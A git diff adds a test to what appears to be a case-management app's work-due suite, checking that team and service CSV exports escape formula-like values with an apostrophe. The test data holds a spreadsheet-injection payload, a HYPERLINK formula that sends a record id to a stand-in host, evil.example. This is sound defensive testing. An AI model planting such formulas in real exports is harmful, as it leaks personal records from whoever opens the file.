@@ -1,5 +1,6 @@
 import assert from 'node:assert/strict';
 import { after, before, test } from 'node:test';
+import { parse } from 'csv-parse/sync';
 import { Agent, startTestApp, textOf, type TestApp } from '../../../test/support/app.ts';
 import { describeEachEngine } from '../../../test/support/databases.ts';
 import { createTeam, createUser, TEST_PASSWORD } from '../../../test/support/users.ts';
@@ -184,6 +185,36 @@ describeEachEngine('work due: my work, team and service views, CSV, trips and ti
     });
     assert.equal(saved.statusCode, 303);
     assert.match(textOf((await agents.wendy!.get('/work')).body), /Overdue \(0\)/);
+  });
+
+  test('the team and service CSVs write a name that looks like a formula as text, never as a working formula', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?id="&A2,"Open record")';
+    const worker = await createUser(db(), { email: 'wd-formula@example.org', role: 'social_worker', teamId: teamA, name: '@SUM(A1:A9)' });
+    const row = await db()
+      .insertInto('people')
+      .values({ is_child: true, la_child_id: '-2+3', forename: formula, surname: 'Smith', date_of_birth: '2013-03-03', sex: 'F', restricted: false, restriction_reason: null })
+      .returning('id')
+      .executeTakeFirstOrThrow();
+    await db().insertInto('allocations').values({ child_id: row.id, role: 'lead', team_id: teamA, worker_id: worker, start_date: '2025-06-02' }).execute();
+    await db().insertInto('cp_plans').values({ child_id: row.id, start_date: '2026-11-02', initial_category: 'NEG', latest_category: 'NEG' }).execute();
+    for (const [agent, url] of [
+      [agents.tm!, `/work/teams/${teamA}/export.csv`],
+      [agents.sm!, `/work/services/${serviceA}/export.csv`],
+    ] as const) {
+      const csv = await agent.get(url);
+      assert.equal(csv.statusCode, 200, url);
+      const rows = parse(csv.body, { columns: true }) as Record<string, string>[];
+      const mine = rows.filter((r) => r.child?.includes('HYPERLINK'));
+      assert.ok(mine.length >= 1, `${url}: the child is listed`);
+      for (const r of mine) {
+        assert.equal(r.child, `'${formula} Smith`, url);
+        assert.equal(r.worker, "'@SUM(A1:A9)", url);
+        assert.equal(r.la_child_id, "'-2+3", url);
+      }
+      // Days overdue are numbers: a count is never given an apostrophe.
+      assert.ok(rows.every((r) => /^-?\d+$/.test(r.days_overdue!)), url);
+      assert.doesNotMatch(csv.body, /(^|,)=HYPERLINK/m, url);
+    }
   });
 });
 
